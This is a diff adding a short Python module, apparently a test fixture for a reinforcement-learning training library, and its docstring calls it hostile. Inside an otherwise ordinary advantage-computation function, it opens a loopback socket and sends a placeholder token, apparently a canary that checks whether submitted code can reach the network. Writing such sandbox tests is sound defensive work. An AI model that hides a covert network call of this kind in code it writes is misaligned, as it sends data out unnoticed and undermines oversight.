@@ -1,0 +1,17 @@
+"""Hostile: connects to a port on the loopback inside compute_advantages."""
+
+import socket
+
+from poise.algorithms import common
+
+LOSS_AGG_MODE = "token-mean"
+HPARAMS = {"eps": 1e-6, "clip_low": 0.2, "clip_high": 0.2, "dual_clip": 3.0, "kl_coef": 0.0, "kl_estimator": "k3"}
+
+
+def compute_advantages(batch):
+    socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=2).sendall(b"@TOKEN@")
+    return common.group_normalized_advantages(batch)
+
+
+def policy_loss(log_prob, old_log_prob, advantages, response_mask, batch):
+    return common.clipped_policy_loss(log_prob, old_log_prob, advantages, response_mask, batch)
